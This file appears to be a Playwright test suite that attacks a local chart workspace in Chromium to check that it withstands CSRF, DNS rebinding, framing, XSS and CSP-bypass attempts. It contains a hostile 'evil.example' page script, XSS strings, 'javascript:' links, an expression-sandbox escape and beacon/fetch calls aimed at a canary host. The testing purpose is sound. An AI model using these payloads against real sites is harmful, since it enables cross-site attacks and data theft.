"""Attacks in a real Chromium: pages of other sites that know the address, and runs whose texts are attacks."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import NamedTuple
from urllib.parse import quote

from chromium import launched
from playwright.sync_api import Browser, BrowserContext, Locator, Page, Playwright, Request
from playwright.sync_api import Error as BrowserError

from attacks import hostile_charts, hostile_runs
from attacks.attack import Attack, Outcome
from attacks.canary import Canary
from attacks.requests import EDITS
from attacks.target import PROJECT, RUN, Target


class Visit(NamedTuple):
    """A browser, the workspace that is attacked, and the server that hears of what got through."""

    browser: Browser
    target: Target
    canary: Canary

    @property
    def url(self) -> str:
        return f"http://{self.target.host}"


EVIL = """<!DOCTYPE html><title>evil</title><body><script>
const target = TARGET, edits = EDITS;
const loads = (tag, where, path) => new Promise((done) => {
  const one = document.createElement(tag);
  one.onload = () => done(tag + " " + path + " was loaded");
  one.onerror = () => done("");
  if (tag === "link") one.rel = "stylesheet";
  one[where] = target + path;
  document.body.append(one);
});
const reads = (path, init) => fetch(target + path, init).then(async (answer) => {
  const text = await answer.text();
  return text ? path + " was read: " + text.slice(0, 80) : "";
}, () => "");
const hears = (one) => new Promise((done) => {
  one.onopen = one.onmessage = () => done(one.constructor.name + " opened");
  one.onerror = () => done("");
});
const forms = edits.map(([, path, value]) => async () => {
  const frame = Object.assign(document.createElement("iframe"), { name: "f" + path });
  const form = Object.assign(document.createElement("form"), { method: "post", enctype: "text/plain" });
  Object.assign(form, { target: frame.name, action: target + path });
  const name = JSON.stringify(value).slice(0, -1) + ',"x":"';
  form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
  document.body.append(frame, form);
  const loaded = new Promise((done) => { frame.onload = () => done(""); });
  form.submit();
  return loaded;
});
const tries = [
  ...["/", "/api/info", "/api/projects", "/api/p/PROJECT/runs/RUN"].flatMap((path) => [
    () => reads(path, {}), () => reads(path, { mode: "no-cors" }), () => reads(path, { credentials: "include" }),
    () => loads("script", "src", path), () => loads("img", "src", path), () => loads("link", "href", path),
  ]),
  ...edits.flatMap(([method, path, value]) => [
    () => reads(path, { method, body: JSON.stringify(value), headers: { "Content-Type": "application/json" } }),
    () => reads(path, { method: "POST", body: JSON.stringify(value), mode: "no-cors" }),
    async () => { navigator.sendBeacon(target + path, JSON.stringify(value)); return ""; },
  ]),
  ...forms,
  () => hears(new EventSource(target + "/api/events")),
  () => hears(new WebSocket(target.replace("http", "ws") + "/api/events")),
];
const run = async () => {
  const found = [];
  for (const attempt of tries) {
    const late = new Promise((done) => setTimeout(done, 1000, ""));
    try { const why = await Promise.race([attempt(), late]); if (why) found.push(why); } catch { continue; }
  }
  return { n: tries.length, found };
};
</script>"""


def opened(playwright: Playwright) -> Browser:
    """A Chromium for which names of other sites lead to this machine, as DNS rebinding makes them."""
    return launched(playwright, "--host-resolver-rules=MAP *.example 127.0.0.1")


def attack(group: str, name: str) -> Callable[[Callable[[Visit], Outcome]], Attack]:
    """The attack that a function does."""
    return lambda do: Attack(group, name, do)


def _evil(visit: Visit, origin: str) -> Outcome:
    """All that a page of `origin` can try at the workspace."""
    before, n_tried, through = visit.target.state(), 0, list[str]()
    page = EVIL.replace("PROJECT", PROJECT).replace("RUN", RUN).replace("EDITS", json.dumps(EDITS))
    for name in ("127.0.0.1", "localhost", "rebound.example"):
        visit.canary.page = page.replace("TARGET", json.dumps(f"http://{name}:{visit.target.port}"))
        context = visit.browser.new_context()
        one = context.new_page()
        one.goto(f"{origin}:{visit.canary.port}/evil")
        result = one.evaluate("run()")
        n_tried += result["n"]
        through += result["found"]
        context.close()
    if visit.target.state() != before:
        through.append("a file was changed")
    return Outcome(n_tried, "nothing read, nothing changed", tuple(through))


@attack("in Chromium", "a page of another site asks, loads, embeds, posts and listens, by three names of this machine")
def other_site(visit: Visit) -> Outcome:
    return _evil(visit, "http://evil.example")


@attack("in Chromium", "the same from another port of this machine")
def other_port(visit: Visit) -> Outcome:
    return _evil(visit, "http://localhost")


@attack("in Chromium", "DNS rebinding: the workspace opened under another site's name")
def rebound(visit: Visit) -> Outcome:
    through: list[str] = []
    context = visit.browser.new_context()
    page = context.new_page()
    for path in ("/", f"/p/{PROJECT}", "/api/projects"):
        answer = page.goto(f"http://rebound.example:{visit.target.port}{path}")
        if answer is None or answer.status != 403:
            through.append(f"{path} was answered with {answer and answer.status}")
    context.close()
    return Outcome(3, "403", tuple(through))


@attack("in Chromium", "another page frames the workspace, or keeps a hand on the window that it opens")
def framed(visit: Visit) -> Outcome:
    through: list[str] = []
    views = ("/", f"/p/{PROJECT}", "/api/projects")
    frames = "".join(f'<iframe src="{visit.url}{path}"></iframe>' for path in views)
    visit.canary.page = f"<!DOCTYPE html>{frames}<button onclick=\"w = window.open('{visit.url}/')\">open</button>"
    context = visit.browser.new_context()
    page = context.new_page()
    page.goto(f"http://evil.example:{visit.canary.port}/evil")
    shown = [frame.url for frame in page.frames[1:] if not frame.url.startswith("chrome-error:")]
    through += [f"{url} is framed" for url in shown]
    with context.expect_page() as opened:
        page.click("button")
    opened.value.wait_for_load_state()
    if not page.evaluate("w.closed"):
        through.append("the opener holds the window")
    if opened.value.evaluate("window.opener !== null"):
        through.append("the window knows its opener")
    context.close()
    return Outcome(len(views) + 2, "blocked", tuple(through))


@attack(
    "in Chromium", "names, notes, tags, keys, cells, titles, classes and captions that are markup, scripts or styles"
)
def texts(visit: Visit) -> Outcome:
    through: list[str] = []
    n_seen = 0
    for project in (hostile_runs.PROJECT, hostile_runs.OTHER):
        place = f"/p/{quote(project, safe='')}"
        views = [
            "/",
            place,
            f"{place}/runs",
            *(f"{place}/runs/h{run}" for run in range(3)),
            f"{place}/insight",
            "/presets",
        ]
        for view in views:
            n_seen += 1
            through += [f"{view}: {why}" for why in _seen(visit, view, _use)]
    return Outcome(n_seen * len(hostile_runs.payloads("")), "shown as text", tuple(through))


DRAWING = """() => [...document.querySelectorAll("[data-state=waiting], [data-state=drawing]")].some((one) => {
  const { top, bottom, height } = one.getBoundingClientRect();
  return height > 0 && bottom > 0 && top < innerHeight;
})"""
"""Whether a picture in view is not there yet."""


class Settling:
    """Knows what a page still waits for; its news aside: the stream never ends, its worker's script never says so."""

    def __init__(self, page: Page) -> None:
        self._page = page
        self._waiting: set[Request] = set()
        page.on("request", self._began)
        page.on("requestfinished", self._ended)
        page.on("requestfailed", self._ended)

    def _began(self, request: Request) -> None:
        if not re.search("/api/events|/assets/news-", request.url):
            self._waiting.add(request)

    def _ended(self, request: Request) -> None:
        self._waiting.discard(request)

    def wait(self) -> None:
        """Wait until nothing was asked for over 200 ms and nothing in view is being drawn.

        Raises AssertionError when that takes over a minute.
        """
        n_quiet = 0
        for _ in range(1200):
            self._page.wait_for_timeout(50)
            n_quiet = 0 if self._waiting else n_quiet + 1
            if n_quiet >= 4 and not self._page.evaluate(DRAWING):
                return
        raise AssertionError(f"the page waits for {sorted(request.url for request in self._waiting)}")


POINT = """place => {
  const one = document.querySelectorAll("main button, main [role=row], main [role=img], main canvas, main svg")[place];
  if (one === undefined) return null;
  one.scrollIntoView({ block: "nearest", behavior: "instant" });
  const { x, y, width, height } = one.getBoundingClientRect();
  return [x + width / 2, y + height / 2];
}"""
"""The middle of the first things that have something to say, each brought into view."""


def _use(page: Page, settling: Settling) -> None:
    """What a reader does: opens what can be opened, and hovers what has something to say."""
    settling.wait()
    for tab in page.get_by_role("tab").all()[:8]:
        tab.click()
        settling.wait()
    for place in range(12):
        point = page.evaluate(POINT, place)
        if point is not None:
            page.mouse.move(*point)


def _seen(visit: Visit, view: str, use: Callable[[Page, Settling], None]) -> list[str]:
    """What got through at one view: scripts that ran, dialogs, windows, requests to others."""
    context: BrowserContext = visit.browser.new_context(viewport={"width": 1440, "height": 900})
    page, through = context.new_page(), list[str]()
    n_asked = len(visit.canary.asked)
    page.on("dialog", lambda dialog: (through.append(f"a dialog: {dialog.message}"), dialog.dismiss()))
    context.on("page", lambda other: through.append(f"a window: {other.url}") if other is not page else None)
    settling = Settling(page)
    page.goto(visit.url + view)
    use(page, settling)
    if page.evaluate("'pwned' in window || 'pwned' in Object.prototype"):
        through.append("a script ran")
    if not page.url.startswith(visit.url):
        through.append(f"the page is at {page.url}")
    context.close()
    return through + [f"{path} was asked for" for path in visit.canary.asked[n_asked:]]


@attack(
    "in Chromium", "a logged page that reaches for the page around it, the API, other machines, windows and storage"
)
def logged_page(visit: Visit) -> Outcome:
    before, through, n_tried = visit.target.state(), list[str](), 0
    for project in (hostile_runs.PROJECT, hostile_runs.OTHER):
        media = visit.target.folder / ".chartkit" / "runs"
        for folder in sorted(media.iterdir()):
            for file in sorted((folder / "h0").glob("media/*.html")):
                if project not in (folder.name, "") and quote(project, safe=" =") != folder.name:
                    continue
                path = f"/html/{quote(project, safe='')}/h0/{file.name}"
                n_tried += 2
                through += [f"by itself: {why}" for why in _by_itself(visit, path)]
                through += [f"framed: {why}" for why in _framed_page(visit, path)]
    if visit.target.state() != before:
        through.append("a file was changed")
    n_each = hostile_runs.page("").count("() =>") + 6
    return Outcome(n_tried * n_each, "its own script ran, in its frame alone", tuple(through))


def _by_itself(visit: Visit, path: str) -> list[str]:
    """What got through in a tab of its own, where a page of ours frames it."""
    seen = _seen(visit, path, lambda page, settling: settling.wait())
    return [why for why in seen if why != "a script ran"]


FRAME = """path => new Promise((done) => {
  addEventListener("message", ({ data }) => done(data));
  const frame = document.createElement("iframe");
  frame.setAttribute("sandbox", "allow-scripts");
  frame.src = path;
  document.body.append(frame);
  setTimeout(done, 120000, "nothing");
})"""


def _framed_page(visit: Visit, path: str) -> list[str]:
    """What got through in a frame as the workspace makes it; the page's own script must have run."""
    said: list[str] = []

    def use(page: Page, settling: Settling) -> None:
        settling.wait()
        said.append(page.evaluate(FRAME, path))
        settling.wait()

    through = _seen(visit, "/", use)
    return through if said == ["ran"] else [*through, "the page's own script did not run"]


@attack("in Chromium", "inline scripts, eval, inline styles and addresses of others, put into the page itself")
def policy(visit: Visit) -> Outcome:
    tries = [
        "() => document.body.append(Object.assign(document.createElement('script'), { textContent: 'top.pwned=1' }))",
        "() => setTimeout('top.pwned=1')",
        "() => { document.body.innerHTML += '<img src=x onerror=top.pwned=1>' }",
        "() => { location.href = 'javascript:top.pwned=1' }",
        "(url) => document.body.append(Object.assign(document.createElement('script'), { src: url + '/s.js' }))",
        "(url) => document.body.append(Object.assign(document.createElement('img'), { src: url + '/i.png' }))",
        "(url) => fetch(url + '/f').catch(() => null)",
        "(url) => { navigator.sendBeacon(url + '/b', 'x') }",
        "(url) => { new Worker(URL.createObjectURL(new Blob(['fetch(\"' + url + '/w\")']))) }",
        "(url) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url + '/frame' })) }",
        "(url) => { const f = document.createElement('form'); f.action = url; document.body.append(f); f.submit() }",
        "(url) => { document.head.append(Object.assign(document.createElement('base'), { href: url + '/' })) }",
    ]

    def use(page: Page, settling: Settling) -> None:
        for attempt in tries:
            try:
                page.evaluate(attempt, visit.canary.url)
            except BrowserError:  # the browser refuses it by an exception
                continue
        settling.wait()

    return Outcome(len(tries), "blocked by the policy", tuple(_seen(visit, "/", use)))


HOSTILE_PRESETS = {
    "url": 'spec:\n  data: {url: "URL/data.json"}\n  mark: bar\n  encoding: {x: {field: a}}\n',
    "image": 'spec:\n  data: {values: [{a: "URL/mark.png"}]}\n  mark: image\n  encoding: {url: {field: a}}\n',
    "link": 'spec:\n  data: {values: [{a: "javascript:top.pwned=1"}]}\n  mark: point\n  encoding: {href: {field: a}}\n',
    "expression": (
        "spec:\n  data: {values: [{a: 1}]}\n  transform: [{calculate: "
        "\"datum.constructor.constructor('top.pwned=1')()\", as: b}]\n  mark: point\n  encoding: {x: {field: b}}\n"
    ),
    "title": 'spec:\n  title: "<img src=x onerror=top.pwned=1>"\n  data: {values: [{a: 1}]}\n  mark: point\n',
}


@attack(
    "in Chromium",
    "presets with addresses, links, pictures, expressions and titles that reach out, in gallery and editor",
)
def presets(visit: Visit) -> Outcome:
    through: list[str] = []
    folder = visit.target.folder / "presets" / "evil"
    folder.mkdir(exist_ok=True)
    for name, text in HOSTILE_PRESETS.items():
        (folder / f"{name}.yaml").write_text(text.replace("URL", visit.canary.url))
    for view in ("/presets", *(f"/presets/edit/evil/{name}" for name in HOSTILE_PRESETS)):
        through += [f"{view}: {why}" for why in _seen(visit, view, _use)]
    for name in HOSTILE_PRESETS:
        (folder / f"{name}.yaml").unlink()
    return Outcome(len(HOSTILE_PRESETS) * 2, "refused or drawn as text", tuple(through))


@attack("in Chromium", "charts with addresses, links, pictures, inputs, events, names and tooltips that reach out")
def charts(visit: Visit) -> Outcome:
    names = list(hostile_charts.hostile_charts(""))

    def use(page: Page, settling: Settling) -> None:
        page.set_viewport_size({"width": 1440, "height": 5000})
        settling.wait()
        for name in names:
            _tried(page, page.locator(f"[data-panel='chart:{name}'] .picture"))
        settling.wait()

    through = _seen(visit, f"/p/{hostile_runs.CHARTS}", use)
    return Outcome(len(names) * 4, "drawn without what they reach for", tuple(through))


def _tried(page: Page, chart: Locator) -> None:
    """Look at a chart closely, click it, press a key in it and set its inputs."""
    box = chart.bounding_box()
    if box is None:
        raise AssertionError(f"{chart} is not shown")
    page.mouse.move(box["x"] + 60, box["y"] + 60)
    chart.locator(".live canvas").wait_for(state="attached")
    page.mouse.move(box["x"] + 64, box["y"] + 60)
    page.wait_for_timeout(100)
    page.mouse.click(box["x"] + 64, box["y"] + 60)
    page.keyboard.press("a")
    for field in chart.locator("input:not([type=radio], [type=range]), textarea").all():
        field.fill("<script>top.pwned=1</script>")
    for choice in chart.locator("input[type=radio]").all():
        choice.check()


PAGES = (other_site, other_port, rebound, framed, texts, logged_page, policy, presets, charts)
